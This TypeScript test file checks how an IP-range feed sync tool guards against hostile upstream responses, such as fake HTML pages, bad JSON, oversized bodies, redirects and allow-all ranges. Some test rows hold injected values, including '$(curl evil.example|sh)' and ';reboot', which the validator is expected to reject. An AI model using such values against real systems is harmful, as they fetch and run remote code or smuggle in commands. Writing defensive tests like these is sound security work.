/**
 * Acceptance 3: hostile upstream responses, served by a real local HTTP server and fetched with
 * the real global fetch, and the outcome of each. Every refusal keeps the previous snapshot
 * untouched; every accepted body comes out canonical; a well-formed list that removes too much
 * is held (never refused). Feed contents are public stand-ins (11.0.2.0/24, 12.51.100.0/24,
 * 13.0.113.0/24, 2a0b:db8::/32) for the documentation ranges, which reserved-space refuses.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import {
  defineUserFeed,
  findFeed,
  sha256Lists,
  type FeedDefinition,
  type GuardName,
  type GuardOptions,
  type Snapshot,
} from '../../../shared/src/feeds/index.ts'
import {
  startMirror,
  type MirrorEntry,
  type MirrorHandler,
  type MirrorServer,
} from '../../scripts/mirror-server.ts'
import { syncViaMirror } from './oracle.ts'

const LIST = defineUserFeed({
  id: 'test/lines',
  url: 'https://hostile.test/list',
  parser: { kind: 'lines' },
})
const JSON_FEED = defineUserFeed({
  id: 'test/json',
  url: 'https://hostile.test/list',
  parser: { kind: 'json', path: 'cidrs' },
})
const HOOKS = findFeed('github/hooks')!
const COOLIFY = findFeed('coolify/cloud')!
/** Read from its bytes as an array of strings (string-array.ts), else whole. */
const RELAYS = findFeed('firezone/relays')!

const KEYS: Record<string, string> = {
  'test/lines': 'hostile.test/list',
  'test/json': 'hostile.test/list',
  'github/hooks': 'api.github.com/meta',
  'coolify/cloud': 'coolify.io/ipv4.txt',
  'firezone/relays': 'www.firezone.dev/relay-ips.json',
}

/** A handler answering `status` with `headers` and `body`. */
const respond =
  (status: number, headers: Record<string, string>, body: string | Buffer = ''): MirrorHandler =>
  (_req, res) => {
    res.writeHead(status, headers).end(body)
  }
const html = '<!DOCTYPE html><html><head><title>Just a moment...</title></head><body></body></html>'
const meta = (extra: Record<string, unknown>) =>
  JSON.stringify({
    verifiable_password_authentication: false,
    hooks: ['11.0.2.0/24', '2a0b:db8::/32'],
    web: [],
    ...extra,
  })
const json = (cidrs: unknown) => JSON.stringify({ generated_at: 'x', cidrs })

interface Row {
  readonly name: string
  readonly feed: FeedDefinition
  readonly serve: MirrorEntry | { readonly withPort: (port: string) => MirrorEntry }
  readonly guards?: Partial<GuardOptions>
  /** A refusing guard name, a held one, or the canonical lists of an accepted body. */
  readonly expect: GuardName | { held: GuardName } | { ipv4: string[]; ipv6: string[] }
  readonly reason?: RegExp
}

// Accepted bodies always keep the baseline 11.0.2.0/24 + 2a0b:db8::/32 so that no row trips the
// mass-removal guard by accident; the rows that test removal say so.
const ROWS: Row[] = [
  {
    name: 'HTML page with status 200 (text/html) for a list',
    feed: LIST,
    serve: respond(200, { 'content-type': 'text/html' }, html),
    expect: 'wrong-content',
  },
  {
    name: 'HTML page with status 200 labelled text/plain',
    feed: LIST,
    serve: html,
    expect: 'wrong-content',
  },
  {
    name: 'HTML page with status 200 for JSON',
    feed: HOOKS,
    serve: respond(200, { 'content-type': 'application/json' }, html),
    expect: 'wrong-content',
  },
  {
    name: 'truncated JSON',
    feed: HOOKS,
    serve: meta({}).slice(0, 60),
    expect: 'unparseable',
    reason: /not JSON/,
  },
  {
    name: '`hooks` renamed',
    feed: HOOKS,
    serve: meta({}).replace('"hooks"', '"webhooks"'),
    expect: 'schema-drift',
    reason: /"hooks" is missing/,
  },
  {
    name: '`hooks` changes shape (object instead of array)',
    feed: HOOKS,
    serve: meta({ hooks: { ipv4: 1 } }),
    expect: 'schema-drift',
  },
  {
    name: 'a non-string inside `hooks`',
    feed: HOOKS,
    serve: meta({ hooks: ['11.0.2.0/24', 42] }),
    expect: 'schema-drift',
  },
  {
    name: 'body over the size limit (Content-Length)',
    feed: LIST,
    guards: { maxBodyBytes: 1024 },
    serve: '11.0.2.0/24\n'.repeat(400),
    expect: 'oversized',
    reason: /Content-Length/,
  },
  {
    name: 'body over the size limit (chunked, no Content-Length)',
    feed: LIST,
    guards: { maxBodyBytes: 1024 },
    serve: (_req, res) => {
      res.writeHead(200, { 'content-type': 'text/plain' })
      for (let i = 0; i < 100; i++) res.write('11.0.2.0/24\n')
      res.end()
    },
    expect: 'oversized',
    reason: /the body is over/,
  },
  {
    name: 'CIDR string containing a newline',
    feed: JSON_FEED,
    serve: json(['11.0.2.0/24\n13.0.113.0/24']),
    expect: 'invalid-entry',
    reason: /\\n/,
  },
  {
    name: 'CIDR string with a shell metacharacter (;)',
    feed: JSON_FEED,
    serve: json(['11.0.2.0/24;reboot']),
    expect: 'invalid-entry',
  },
  {
    name: 'CIDR string with a command substitution',
    feed: LIST,
    serve: '11.0.2.0/24\n$(curl evil.example|sh)\n',
    expect: 'invalid-entry',
    reason: /line 2/,
  },
  {
    name: 'IPv4-mapped IPv6',
    feed: LIST,
    serve: '11.0.2.0/24\n::ffff:12.51.100.7\n',
    expect: 'invalid-entry',
    reason: /IPv4-mapped/,
  },
  {
    name: 'IPv4-mapped IPv6 as a CIDR',
    feed: JSON_FEED,
    serve: json(['::ffff:0:0/104']),
    expect: 'invalid-entry',
    reason: /IPv4-mapped/,
  },
  {
    name: 'fe80::1%eth0 (zone id)',
    feed: LIST,
    serve: 'fe80::1%eth0\n',
    expect: 'invalid-entry',
    reason: /zone id/,
  },
  { name: '0.0.0.0/0', feed: LIST, serve: '11.0.2.0/24\n0.0.0.0/0\n', expect: 'allow-all' },
  { name: '::/0', feed: JSON_FEED, serve: json(['2a0b:db8::/32', '::/0']), expect: 'allow-all' },
  {
    name: 'two halves that cover all of IPv4',
    feed: LIST,
    serve: '0.0.0.0/1\n128.0.0.0/1\n',
    expect: 'allow-all',
    reason: /together/,
  },
  {
    name: 'an IPv6 entry in an IPv4-only file',
    feed: COOLIFY,
    serve: '11.0.2.1\n2a0b:db8::1\n',
    expect: 'invalid-entry',
    reason: /IPv4-only/,
  },
  {
    name: 'not an address at all',
    feed: LIST,
    serve: '11.0.2.0/24\n999.1.2.3\n',
    expect: 'invalid-entry',
  },
  {
    name: 'duplicates and overlaps are merged',
    feed: LIST,
    serve: '11.0.2.0/24\n11.0.2.0/24\n11.0.2.128/25\n11.0.2.7\n2a0b:db8::/32\n2A0B:DB8:0:0::/48\n',
    expect: { ipv4: ['11.0.2.0/24'], ipv6: ['2a0b:db8::/32'] },
  },
  {
    name: 'a UTF-8 BOM',
    feed: LIST,
    serve: '\uFEFF11.0.2.0/24\n2a0b:db8::/32\n',
    expect: { ipv4: ['11.0.2.0/24'], ipv6: ['2a0b:db8::/32'] },
  },
  {
    name: 'a UTF-8 BOM before JSON',
    feed: JSON_FEED,
    serve: `\uFEFF${json(['11.0.2.0/24', '2a0b:db8::/32'])}`,
    expect: { ipv4: ['11.0.2.0/24'], ipv6: ['2a0b:db8::/32'] },
  },
  {
    name: 'CRLF line ends',
    feed: LIST,
    serve: '11.0.2.0/24\r\n12.51.100.0/24\r\n2a0b:db8::/32\r\n',
    expect: { ipv4: ['11.0.2.0/24', '12.51.100.0/24'], ipv6: ['2a0b:db8::/32'] },
  },
  {
    name: 'comment lines, trailing comments and blank lines',
    feed: LIST,
    serve: '# published list\n\n11.0.2.0/24  # office\n   \n# 13.0.113.0/24\n2a0b:db8::/32\n',
    expect: { ipv4: ['11.0.2.0/24'], ipv6: ['2a0b:db8::/32'] },
  },
  {
    name: 'host bits set: the network is used',
    feed: LIST,
    serve: '11.0.2.77/24\n2a0b:db8::1/32\n',
    expect: { ipv4: ['11.0.2.0/24'], ipv6: ['2a0b:db8::/32'] },
  },
  { name: 'an empty body', feed: LIST, serve: '', expect: 'empty' },
  { name: 'only comments', feed: LIST, serve: '# nothing today\n', expect: 'empty' },
  {
    name: 'a body that is not UTF-8',
    feed: LIST,
    serve: Buffer.from([0x31, 0x39, 0x32, 0xff, 0xfe, 0x0a]),
    expect: 'wrong-content',
    reason: /UTF-8/,
  },
  {
    name: 'HTTP 500',
    feed: LIST,
    serve: respond(500, {}, 'oops'),
    expect: 'http-error',
    reason: /HTTP 500/,
  },
  {
    name: 'HTTP 404',
    feed: HOOKS,
    serve: respond(404, {}, '{"message":"Not Found"}'),
    expect: 'http-error',
  },
  {
    name: '302 redirect to another host',
    feed: LIST,
    serve: {
      withPort: (port) => respond(302, { location: `http://localhost:${port}/hostile.test/list` }),
    },
    expect: 'redirect',
    reason: /another host/,
  },
  {
    name: '301 redirect without Location',
    feed: LIST,
    serve: respond(301, {}),
    expect: 'redirect',
  },
  {
    name: '307 redirect on the same host is followed',
    feed: LIST,
    serve: {
      withPort: (port) => respond(307, { location: `http://127.0.0.1:${port}/hostile.test/moved` }),
    },
    expect: { ipv4: ['11.0.2.0/24', '13.0.113.0/24'], ipv6: ['2a0b:db8::/32'] },
  },
  {
    name: 'a redirect loop on the same host',
    feed: LIST,
    serve: respond(302, { location: '/hostile.test/list' }),
    expect: 'redirect',
    reason: /more than 3/,
  },
  {
    name: 'slow server: no headers within the timeout',
    feed: LIST,
    guards: { timeoutMs: 300 },
    serve: () => undefined,
    expect: 'timeout',
  },
  {
    name: 'slow server: headers, then a body that never ends',
    feed: LIST,
    guards: { timeoutMs: 300 },
    serve: (_req, res) => {
      res.writeHead(200, { 'content-type': 'text/plain' })
      res.write('11.0.2.0/24\n')
    },
    expect: 'timeout',
    reason: /body/,
  },
  {
    name: 'half the IPv4 addresses gone is allowed (limit: more than half)',
    feed: LIST,
    serve: '11.0.2.0/25\n2a0b:db8::/32\n',
    expect: { ipv4: ['11.0.2.0/25'], ipv6: ['2a0b:db8::/32'] },
  },
  {
    name: 'more than half the IPv4 addresses gone: held',
    feed: LIST,
    serve: '11.0.2.0/26\n2a0b:db8::/32\n',
    expect: { held: 'mass-removal' },
    reason: /75\.00% of the IPv4/,
  },
  {
    name: 'every IPv6 address gone: held',
    feed: LIST,
    serve: '11.0.2.0/24\n',
    expect: { held: 'mass-removal' },
    reason: /every IPv6/,
  },
  {
    name: 'a documentation range in a built-in feed',
    feed: COOLIFY,
    serve: '11.0.2.1\n192.0.2.1\n',
    expect: 'reserved-space',
    reason:
      /line 2: "192\.0\.2\.1" reaches into special-purpose space 192\.0\.2\.0\/24 \(Documentation/,
  },
  {
    name: '10.0.0.0/8 hidden in a JSON list',
    feed: JSON_FEED,
    serve: json(['11.0.2.0/24', '2a0b:db8::/32', '10.0.0.0/8']),
    expect: 'reserved-space',
    reason: /\$\["cidrs"\]\[2\]: "10\.0\.0\.0\/8" .*Private-Use, RFC 1918.*allow-reserved/,
  },
  {
    name: '0.0.0.0/1: half of IPv4, reaching into 0.0.0.0/8',
    feed: LIST,
    serve: '11.0.2.0/24\n0.0.0.0/1\n2a0b:db8::/32\n',
    expect: 'reserved-space',
    reason: /"0\.0\.0\.0\/1".*"This network"/,
  },
  {
    name: 'a prefix broader than the feed limit (two /8s merge into a /7)',
    feed: LIST,
    serve: '11.0.2.0/24\n2a0b:db8::/32\n12.0.0.0/8\n13.0.0.0/8\n',
    expect: 'too-broad',
    reason: /12\.0\.0\.0\/7 is broader than the IPv4 limit of test\/lines, \/8/,
  },
  {
    name: 'a built-in feed past its own limit (coolify/cloud: /24)',
    feed: COOLIFY,
    serve: '11.0.0.0/23\n',
    expect: 'too-broad',
    reason: /11\.0\.0\.0\/23 is broader than the IPv4 limit of coolify\/cloud, \/24/,
  },
  {
    name: 'the IPv4 addresses more than double (+131,072): held',
    feed: LIST,
    serve: '11.0.2.0/24\n2a0b:db8::/32\n14.0.0.0/15\n',
    expect: { held: 'mass-addition' },
    reason: /IPv4 addresses of version 7 would grow 513\.00-fold, by more than a \/16/,
  },
  {
    name: 'relays: an array of strings, escapes and a BOM as JSON reads them',
    feed: RELAYS,
    serve: Buffer.concat([
      Buffer.from([0xef, 0xbb, 0xbf]),
      Buffer.from(' [ "11.0.2.0\\/24",\r\n\t"2a0b:db8::\\u002f32", "13.0.113.0/24" ] \n'),
    ]),
    expect: { ipv4: ['11.0.2.0/24', '13.0.113.0/24'], ipv6: ['2a0b:db8::/32'] },
  },
  {
    name: 'relays: plain CIDRs read from the bytes, one of them no address: its place named',
    feed: RELAYS,
    serve: '["11.0.2.0/24", "2a0b:db8::/32", "11.0.3.0/33"]',
    expect: 'invalid-entry',
    reason: /\$\[2\]: "11\.0\.3\.0\/33" is not an address or CIDR/,
  },
  {
    name: 'relays: plain CIDRs read from the bytes, one of them /0',
    feed: RELAYS,
    serve: '["11.0.2.0/24",\n"0.0.0.0/0"]',
    expect: 'allow-all',
    reason: /\$\[1\]: "0\.0\.0\.0\/0" allows every address/,
  },
  {
    name: 'relays: plain CIDRs read from the bytes, one of them private space',
    feed: RELAYS,
    serve: '["11.0.2.0/24", "10.1.0.0/16"]',
    expect: 'reserved-space',
    reason: /\$\[1\]: "10\.1\.0\.0\/16" reaches into special-purpose space/,
  },
  {
    name: 'relays: the 2024 layout (an object by region) is read whole',
    feed: RELAYS,
    serve: JSON.stringify({ 'us-east': { ipv4: ['11.0.2.0/24'], ipv6: ['2a0b:db8::/32'] } }),
    expect: { ipv4: ['11.0.2.0/24'], ipv6: ['2a0b:db8::/32'] },
  },
  {
    name: 'relays: a body that is not UTF-8',
    feed: RELAYS,
    serve: Buffer.concat([
      Buffer.from('["11.0.2.0/24", "'),
      Buffer.from([0xff]),
      Buffer.from('"]'),
    ]),
    expect: 'wrong-content',
    reason: /UTF-8/,
  },
  {
    name: 'relays: an element that is not a string',
    feed: RELAYS,
    serve: '["11.0.2.0/24", "2a0b:db8::/32", 13]',
    expect: 'schema-drift',
    reason: /\$\[2\] is not a string/,
  },
  {
    name: 'relays: bytes after the array',
    feed: RELAYS,
    serve: '["11.0.2.0/24", "2a0b:db8::/32"] ["13.0.113.0/24"]',
    expect: 'unparseable',
    reason: /not JSON/,
  },
  {
    name: 'relays: an HTML page labelled HTML (not read as bytes)',
    feed: RELAYS,
    serve: respond(200, { 'content-type': 'text/html; charset=utf-8' }, html),
    expect: 'wrong-content',
    reason: /HTML page/,
  },
  {
    name: 'relays: an HTML page labelled JSON',
    feed: RELAYS,
    serve: respond(200, { 'content-type': 'application/json' }, html),
    expect: 'wrong-content',
    reason: /HTML page/,
  },
  {
    name: 'every address gone, mass removal allowed',
    feed: LIST,
    guards: { allowMassRemoval: true },
    serve: '12.51.100.0/24\n',
    expect: { ipv4: ['12.51.100.0/24'], ipv6: [] },
  },
]

async function baseline(feed: string): Promise<Snapshot> {
  const lists = { ipv4: ['11.0.2.0/24'], ipv6: ['2a0b:db8::/32'] }
  return {
    feed,
    version: 7,
    sha256: await sha256Lists(lists),
    fetchedAt: '2025-12-31T00:00:00.000Z',
    changedAt: '2025-12-01T00:00:00.000Z',
    source: 'https://hostile.test/list',
    ...lists,
  }
}

describe('hostile upstream responses', () => {
  let mirror: MirrorServer
  let port: string
  beforeAll(async () => {
    mirror = await startMirror({})
    port = new URL(mirror.url).port
  })
  afterAll(() => mirror.close())

  it('has at least 15 rows', () => expect(ROWS.length).toBeGreaterThanOrEqual(15))

  it.each(ROWS)('$name', async (row) => {
    for (const key of Object.keys(mirror.files)) delete mirror.files[key]
    mirror.files[KEYS[row.feed.id]!] =
      typeof row.serve === 'object' && 'withPort' in row.serve
        ? row.serve.withPort(port)
        : row.serve
    mirror.files['hostile.test/moved'] = '11.0.2.0/24\n13.0.113.0/24\n2a0b:db8::/32\n'
    mirror.files['coolify.io/ipv6.txt'] = '2a0b:db8::/32'
    const previous = await baseline(row.feed.id)
    const { outcomes } = await syncViaMirror(mirror, [row.feed], {
      previous: { [row.feed.id]: previous },
      guards: row.guards ?? {},
    })
    const outcome = outcomes[0]!
    if (typeof row.expect === 'object' && 'held' in row.expect) {
      expect(outcome, JSON.stringify(outcome)).toMatchObject({
        kind: 'held',
        guard: row.expect.held,
        previous,
        candidate: { version: 8 },
        change: { previousVersion: 7, version: 8 },
      })
      if (row.reason) expect(outcome.kind === 'held' && outcome.reason).toMatch(row.reason)
    } else if (typeof row.expect === 'string') {
      expect(outcome, JSON.stringify(outcome)).toMatchObject({ kind: 'refused', guard: row.expect })
      if (outcome.kind !== 'refused') return
      expect(outcome.previous).toBe(previous)
      expect(outcome.reason).not.toMatch(/\n/)
      if (row.reason) expect(outcome.reason).toMatch(row.reason)
    } else {
      // The same addresses as the baseline, however written, are no change; others are one.
      const same =
        JSON.stringify(row.expect) === JSON.stringify({ ipv4: previous.ipv4, ipv6: previous.ipv6 })
      expect(outcome.kind, JSON.stringify(outcome)).toBe(same ? 'unchanged' : 'changed')
      if (outcome.kind === 'refused' || outcome.kind === 'held') return
      expect({ ipv4: outcome.snapshot.ipv4, ipv6: outcome.snapshot.ipv6 }).toEqual(row.expect)
      expect(outcome.snapshot.version).toBe(same ? 7 : 8)
    }
  })

  it('reports the renamed key as a new key, not only as drift', async () => {
    for (const key of Object.keys(mirror.files)) delete mirror.files[key]
    mirror.files['api.github.com/meta'] = meta({}).replace('"hooks"', '"webhooks"')
    const result = await syncViaMirror(mirror, [HOOKS, findFeed('github/web')!])
    expect(result.unknownKeys).toEqual([{ url: 'https://api.github.com/meta', key: 'webhooks' }])
    expect(result.outcomes.map((o) => o.kind)).toEqual(['refused', 'refused'])
  })
})
